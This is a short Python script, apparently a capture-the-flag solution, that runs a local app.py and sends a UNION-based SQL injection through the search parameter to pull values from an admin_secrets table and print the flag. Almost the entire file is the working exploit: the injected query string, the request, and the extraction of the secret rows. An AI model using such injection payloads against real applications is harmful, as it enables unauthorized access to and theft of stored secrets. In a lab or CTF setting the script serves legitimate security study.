#!/usr/bin/env python3
# UNION-based injection through the search term, which is pasted into the query.
import json
import subprocess
from urllib.parse import quote

payload = "zzz' UNION SELECT value, 0 FROM admin_secrets --"
out = subprocess.run(["python3", "app.py", "/search?q=" + quote(payload)],
                     capture_output=True, text=True, check=True).stdout
for row in json.loads(out)["body"]["results"]:
    if row["name"].startswith("flag{"):
        print(row["name"])
